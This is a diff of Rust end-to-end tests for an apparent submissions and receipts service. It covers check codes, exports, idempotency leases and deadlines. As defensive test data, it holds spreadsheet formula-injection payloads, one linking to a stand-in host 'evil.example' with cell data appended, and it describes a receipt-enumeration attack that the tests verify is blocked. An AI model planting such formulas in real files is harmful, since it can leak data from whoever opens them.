@@ -134,11 +134,14 @@ e2e_test! {
         assert_eq!(receipt["content_sha256"], canonical_sha(&change["content"]));
         let again = body_json(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{id}/receipt"))).bearer_auth(&owner.access)));
         assert_eq!(again, receipt);
-        // Anyone holding the number can check it, without signing in.
+        // Whoever holds the number and its check code can check it, without signing in.
+        let code = receipt["check_code"].as_str().unwrap();
+        assert_eq!(receipt["verify"], format!("/api/v1/receipts/WSIS-2025-TF-000001?check={code}"));
         let check = body_json(app.get(receipt["verify"].as_str().unwrap()));
         assert_eq!(check["content_sha256"], receipt["content_sha256"]);
         assert_eq!(check["call"], "wsis-2025");
-        problem(app.get("/api/v1/receipts/WSIS-2025-TF-999999"), 404, "not_found");
+        assert!(app.mails_to("owner@example.org").iter().any(|m| m.body.contains(code)), "the receipt mail carries the code");
+        problem(app.get(&format!("/api/v1/receipts/WSIS-2025-TF-999999?check={code}")), 404, "not_found");
         problem(submit(&app, &owner, &id), 409, "invalid_transition");
 
         let revisions = body_json(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{id}/revisions"))).bearer_auth(&owner.access)));
@@ -708,6 +711,12 @@ e2e_test! {
         let json_export = body_json(app.send(app.client.get(app.url("/api/v1/submissions/export?format=json")).bearer_auth(&staff.access)));
         assert_eq!(json_export.as_array().unwrap().len(), 4, "never drafts");
         assert_eq!(json_export[0]["region"], "africa");
+        let lines = app.send(app.client.get(app.url("/api/v1/submissions/export?format=jsonl")).bearer_auth(&staff.access));
+        assert_eq!(header(&lines, "content-type"), "application/x-ndjson");
+        let lines: Vec<Value> = lines.text().unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+        assert_eq!(lines, json_export.as_array().unwrap().clone(), "the same entries, one per line");
+        let default = app.send(app.client.get(app.url("/api/v1/submissions/export")).bearer_auth(&staff.access));
+        assert_eq!(header(&default, "content-type"), "text/csv; charset=utf-8; header=present", "CSV unless asked, as the repository export");
         problem(app.send(app.client.get(app.url("/api/v1/submissions/export?format=xml")).bearer_auth(&staff.access)), 422, "validation_failed");
         problem(app.send(app.client.get(app.url("/api/v1/submissions/export")).bearer_auth(&owner.access)), 403, "forbidden");
     }
@@ -751,7 +760,7 @@ e2e_test! {
         // Another instance has claimed this key and not answered yet.
         let now = wsis_domain::Clock::now(app.clock.as_ref());
         let claim = app.database.with(|conn| wsis_persistence::idempotency::claim(conn, &owner.user_id, "busy-key", "another instance's request", now)).unwrap();
-        assert_eq!(claim, wsis_persistence::idempotency::Claim::Fresh);
+        assert!(matches!(claim, wsis_persistence::idempotency::Claim::Fresh { .. }), "{claim:?}");
         let busy = app.send(app.client.post(app.url("/api/v1/submissions")).bearer_auth(&owner.access).header("Idempotency-Key", "busy-key").json(&body));
         // The fingerprints differ here, so this is a mismatch; with the same fingerprint it is in flight.
         problem(busy, 422, "validation_failed");
@@ -761,10 +770,31 @@ e2e_test! {
         let key = "in-flight";
         let fingerprint = format!("POST /api/v1/submissions?\n{}", wsis_domain::submission::canonical_json(&body));
         let hash: String = sha2::Sha256::digest(fingerprint.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
-        app.database.with(|conn| wsis_persistence::idempotency::claim(conn, &owner.user_id, key, &hash, now)).unwrap();
-        let retry = app.send(app.client.post(app.url("/api/v1/submissions")).bearer_auth(&owner.access).header("Idempotency-Key", key).json(&body));
-        assert_eq!(header(&retry, "retry-after"), "1");
-        problem(retry, 409, "conflict");
+        let dead = app.database.with(|conn| wsis_persistence::idempotency::claim(conn, &owner.user_id, key, &hash, now)).unwrap();
+        let retry = || app.send(app.client.post(app.url("/api/v1/submissions")).bearer_auth(&owner.access).header("Idempotency-Key", key).json(&body));
+        let busy = retry();
+        assert_eq!(header(&busy, "retry-after"), "1");
+        problem(busy, 409, "conflict");
+        // That first request never answers: its process was killed. Once the claim's lease has run out, a retry with
+        // the same key runs instead of being told "in flight" for a day, and the retry after that replays it.
+        app.clock.advance(Duration::seconds(wsis_persistence::idempotency::LEASE_SECONDS - 1));
+        problem(retry(), 409, "conflict");
+        app.clock.advance(Duration::seconds(2));
+        let owner = app.sign_in("owner@example.org", wsis_e2e::PASSWORD);
+        let retry = || app.send(app.client.post(app.url("/api/v1/submissions")).bearer_auth(&owner.access).header("Idempotency-Key", key).json(&body));
+        let ran = retry();
+        assert_eq!(ran.status().as_u16(), 201, "taken over after the lease");
+        let id = body_json(ran)["id"].clone();
+        let replayed = retry();
+        assert_eq!(header(&replayed, "idempotent-replayed"), "true");
+        assert_eq!(body_json(replayed)["id"], id);
+        // The dead request's late answer, should it come, changes nothing.
+        let claim_id = match dead {
+            wsis_persistence::idempotency::Claim::Fresh { claim_id } => claim_id,
+            other => unreachable!("{other:?}"),
+        };
+        app.database.with(|conn| wsis_persistence::idempotency::complete(conn, &owner.user_id, key, &claim_id, 500, "{}")).unwrap();
+        assert_eq!(body_json(retry())["id"], id);
     }
 }
 
@@ -837,5 +867,180 @@ e2e_test! {
         assert_eq!(cleared.status().as_u16(), 200);
         assert_eq!(body_json(cleared)["prize_award"], Value::Null);
         assert_eq!(submit(&app, &owner, &again).status().as_u16(), 200);
+    }
+}
+
+e2e_test! {
+    fn a_request_is_stamped_when_it_arrives_not_when_it_is_served(app) {
+        let (_, org) = setup(&app);
+        let owner = travel(&app, "2025-02-10T22:59:00Z");
+        let (id, _) = created(&app, &owner, &org, "stocktaking", project("Sent at the last second"));
+        // The request arrives at the last second of the window; every later reading of the clock (authentication,
+        // database work, the handler) sees time pass, as it does on a busy server.
+        app.clock.set(at("2025-02-10T22:59:59Z"));
+        app.clock.step_on_each_reading(Duration::seconds(1));
+        let receipt = submit(&app, &owner, &id);
+        app.clock.step_on_each_reading(Duration::zero());
+        assert_eq!(receipt.status().as_u16(), 200, "decided on the arrival instant");
+        let receipt = body_json(receipt);
+        assert_eq!(receipt["received_at"], "2025-02-10T22:59:59Z", "the receipt carries the arrival instant");
+    }
+}
+
+e2e_test! {
+    fn withdrawing_after_the_deadline_is_refused_and_recorded(app) {
+        let (_, org) = setup(&app);
+        let owner = travel(&app, "2025-02-10T22:00:00Z");
+        let (id, _) = created(&app, &owner, &org, "stocktaking", project("Frozen after the close"));
+        assert_eq!(submit(&app, &owner, &id).status().as_u16(), 200);
+        let owner = travel(&app, "2025-02-10T23:00:00Z");
+        let withdraw = || app.send(app.client.post(app.url(&format!("/api/v1/submissions/{id}/withdraw"))).bearer_auth(&owner.access));
+        let refused = problem(withdraw(), 409, "deadline_passed");
+        assert_eq!(refused["deadline"]["attempted"], "withdraw");
+        let stored = body_json(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{id}"))).bearer_auth(&owner.access)));
+        assert_eq!(stored["status"], "submitted", "nothing changed");
+        let history = body_json(app.send(app.client.get(app.url(&format!("/api/v1/submissions/{id}/history"))).bearer_auth(&owner.access)));
+        assert!(history["items"].as_array().unwrap().iter().any(|e| e["action"] == "late_attempt" && e["detail"]["attempted"] == "withdraw"), "{history}");
+        // An extension for this organisation reopens withdrawal with the rest.
+        let staff = app.staff("staff@example.org");
+        let granted = app.send(app.client.post(app.url("/api/v1/calls/wsis-2025/tracks/stocktaking/extensions")).bearer_auth(&staff.access)
+            .json(&json!({"organisation_id": org, "until": "2025-02-12T22:59:59Z", "reason": "Power cut at the office"})));
+        assert_eq!(granted.status().as_u16(), 201, "{}", granted.text().unwrap());
+        assert_eq!(body_json(withdraw())["status"], "withdrawn");
+    }
+}
+
+e2e_test! {
+    fn exports_stream_every_entry_and_neutralise_spreadsheet_formulas(app) {
+        app.verified_user("owner@example.org");
+        let owner = travel(&app, "2025-02-05T10:00:00Z");
+        let org = app.organisation(&owner, "=HYPERLINK(\"http://evil.example\",\"Org\")");
+        let staff = app.staff("staff@example.org");
+        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"];
+        for (i, title) in hostile.iter().enumerate() {
+            let (id, _) = created(&app, &owner, &org, "stocktaking", project(title));
+            assert_eq!(submit(&app, &owner, &id).status().as_u16(), 200, "{i}");
+            let decided = app.send(app.client.post(app.url(&format!("/api/v1/submissions/{id}/decision"))).bearer_auth(&staff.access).json(&json!({"decision": "accept"})));
+            assert_eq!(decided.status().as_u16(), 200);
+        }
+        let cells = |path: &str, column: &str| -> Vec<String> {
+            let text = app.send(app.client.get(app.url(path)).bearer_auth(&staff.access)).text().unwrap();
+            let mut reader = csv::Reader::from_reader(text.as_bytes());
+            let at = reader.headers().unwrap().iter().position(|h| h == column).unwrap();
+            reader.records().map(|r| r.unwrap().get(at).unwrap().to_owned()).collect()
+        };
+        let titles = cells("/api/v1/stocktaking/projects/export?format=csv", "title");
+        let mut expected: Vec<String> = hostile.iter().map(|t| format!("'{t}")).collect();
+        let mut got = titles.clone();
+        expected.sort();
+        got.sort();
+        assert_eq!(got, expected, "each kept as text behind a quote");
+        for path in ["/api/v1/stocktaking/projects/export", "/api/v1/submissions/export?format=csv"] {
+            let names = cells(path, "organisation_name");
+            assert_eq!(names.len(), hostile.len(), "{path}");
+            assert!(names.iter().all(|n| n.starts_with("'=HYPERLINK")), "{path}: {names:?}");
+        }
+        // JSON carries the text unchanged.
+        let json_export = body_json(app.send(app.client.get(app.url("/api/v1/stocktaking/projects/export?format=json"))));
+        let titles: Vec<&str> = json_export.as_array().unwrap().iter().map(|p| p["title"].as_str().unwrap()).collect();
+        assert!(titles.contains(&hostile[0]), "{titles:?}");
+
+        // Thousands of entries stream in pages that join without a gap or a repeat, in every format.
+        let now = wsis_domain::Clock::now(app.clock.as_ref());
+        wsis::demo::seed(&app.database, 1005, now, &|_| {}).unwrap();
+        let export = |format: &str| app.send(app.client.get(app.url(&format!("/api/v1/submissions/export?format={format}"))).bearer_auth(&staff.access)).text().unwrap();
+        let array: Value = serde_json::from_str(&export("json")).unwrap();
+        let mut ids: Vec<&str> = array.as_array().unwrap().iter().map(|s| s["id"].as_str().unwrap()).collect();
+        assert_eq!(ids.len(), 1011);
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), 1011, "no entry twice");
+        assert_eq!(export("jsonl").lines().count(), 1011);
+        let csv_text = export("csv");
+        assert_eq!(csv::Reader::from_reader(csv_text.as_bytes()).records().count(), 1011);
+    }
+}
+
+e2e_test! {
+    fn a_receipt_number_alone_tells_a_stranger_nothing(app) {
+        let (owner, org) = setup(&app);
+        let secret = json!({"kind": "financial", "amount": "4750", "currency": "CHF"});
+        let (id, _) = created(&app, &owner, &org, "trust_fund", secret.clone());
+        let receipt = body_json(submit(&app, &owner, &id));
+        let number = receipt["number"].as_str().unwrap().to_owned();
+        // The attack that worked: walk the sequential numbers anonymously, read each digest, and hash guessed pledges
+        // until one matches. Without the check code no answer carries a digest, or even says the number exists.
+        let mut answers = std::collections::BTreeSet::new();
+        for n in 1..=3 {
+            for query in ["", "?check=", "?check=00000000000000000000", "?check=ffffffffffffffffffff"] {
+                let response = app.get(&format!("/api/v1/receipts/WSIS-2025-TF-{n:06}{query}"));
+                let status = response.status().as_u16();
+                let text = response.text().unwrap();
+                assert!(!text.contains(receipt["content_sha256"].as_str().unwrap()), "{text}");
+                let body: Value = serde_json::from_str(&text).unwrap();
+                assert!(body.get("content_sha256").is_none() && body.get("received_at").is_none(), "{body}");
+                answers.insert((status, body["code"].as_str().unwrap().to_owned(), body["detail"].as_str().unwrap().to_owned()));
+            }
+        }
+        let statuses: std::collections::BTreeSet<u16> = answers.iter().map(|a| a.0).collect();
+        assert_eq!(statuses, [404, 422].into(), "missing code: 422; wrong code or no such number: one 404 for both");
+        assert_eq!(answers.iter().filter(|a| a.0 == 404).count(), 1, "an existing number with a wrong code answers exactly as a missing one: {answers:?}");
+        let digest = |content: &Value| {
+            Sha256::digest(wsis_domain::submission::canonical_json(content).as_bytes()).iter().map(|b| format!("{b:02x}")).collect::<String>()
+        };
+        assert_eq!(receipt["content_sha256"], digest(&secret), "the owner's own copy still checks against the receipt");
+        let check = body_json(app.get(&format!("/api/v1/receipts/{number}?check={}", receipt["check_code"].as_str().unwrap().to_uppercase())));
+        assert_eq!(check["content_sha256"], receipt["content_sha256"], "the code is read case-insensitively");
+    }
+}
+
+e2e_test! {
+    fn receipt_numbers_are_unique_per_call_when_two_calls_share_a_year(app) {
+        let staff = app.staff("staff@example.org");
+        let (_, org) = setup(&app);
+        for slug in ["wsis-2026", "wsis-2026-special"] {
+            let call = json!({
+                "slug": slug, "year": 2026, "timezone": "Europe/Zurich",
+                "title": {"ar": "دعوة", "zh": "征集", "en": "Call", "fr": "Appel", "ru": "Призыв", "es": "Convocatoria"},
+                "tracks": [{"kind": "trust_fund", "opens": {"rule": "start_of_local_day", "date": "2025-01-01"}, "closes": {"rule": "end_of_local_day", "date": "2026-03-13"}}]
+            });
+            assert_eq!(app.send(app.client.post(app.url("/api/v1/calls")).bearer_auth(&staff.access).json(&call)).status().as_u16(), 201);
+        }
+        let owner = app.sign_in("owner@example.org", wsis_e2e::PASSWORD);
+        let mut numbers = Vec::new();
+        for slug in ["wsis-2026", "wsis-2026-special", "wsis-2026-special", "wsis-2026"] {
+            let body = json!({"call": slug, "track": "trust_fund", "organisation_id": org, "language": "en", "content": pledge()});
+            let id = body_json(app.send(app.client.post(app.url("/api/v1/submissions")).bearer_auth(&owner.access).json(&body)))["id"].as_str().unwrap().to_owned();
+            let receipt = submit(&app, &owner, &id);
+            assert_eq!(receipt.status().as_u16(), 200, "a second call of the same year takes submissions");
+            numbers.push(body_json(receipt)["number"].as_str().unwrap().to_owned());
+        }
+        assert_eq!(numbers, ["WSIS-2026-TF-000001", "WSIS-2026-SPECIAL-TF-000001", "WSIS-2026-SPECIAL-TF-000002", "WSIS-2026-TF-000002"]);
+    }
+}
+
+e2e_test! {
+    fn a_member_removed_from_the_organisation_gets_no_more_mail_about_its_entries(app) {
+        let (owner, org) = setup(&app);
+        let staff = app.staff("staff@example.org");
+        let editor = app.verified_user("editor@example.org");
+        let now = wsis_domain::Clock::now(app.clock.as_ref());
+        app.database.with(|conn| wsis_persistence::organisations::add_member(conn, &org, &editor.user_id, wsis_domain::MemberRole::Editor, now)).unwrap();
+        let editor = app.sign_in("editor@example.org", wsis_e2e::PASSWORD);
+        let (first, _) = created(&app, &editor, &org, "trust_fund", pledge());
+        let (second, _) = created(&app, &editor, &org, "trust_fund", pledge());
+        assert_eq!(submit(&app, &editor, &first).status().as_u16(), 200);
+        let before = app.mails_to("editor@example.org").len();
+        assert!(app.mails_to("editor@example.org").iter().any(|m| m.subject.contains("WSIS-2025-TF-000001")), "the author is told while a member");
+        let removed = app.send(app.client.delete(app.url(&format!("/api/v1/organisations/{org}/members/{}", editor.user_id))).bearer_auth(&owner.access));
+        assert_eq!(removed.status().as_u16(), 204);
+        // A receipt and a decision with a staff note about the entries the former member wrote.
+        assert_eq!(submit(&app, &owner, &second).status().as_u16(), 200);
+        let decided = app.send(app.client.post(app.url(&format!("/api/v1/submissions/{first}/decision"))).bearer_auth(&staff.access).json(&json!({"decision": "reject", "note": "Internal: the budget line is unclear."})));
+        assert_eq!(decided.status().as_u16(), 200);
+        assert_eq!(app.mails_to("editor@example.org").len(), before, "nothing after the removal");
+        let owner_mails = app.mails_to("owner@example.org");
+        assert!(owner_mails.iter().any(|m| m.subject.contains("WSIS-2025-TF-000002")), "the owners still are");
+        assert!(owner_mails.iter().any(|m| m.body.contains("budget line")));
     }
 }
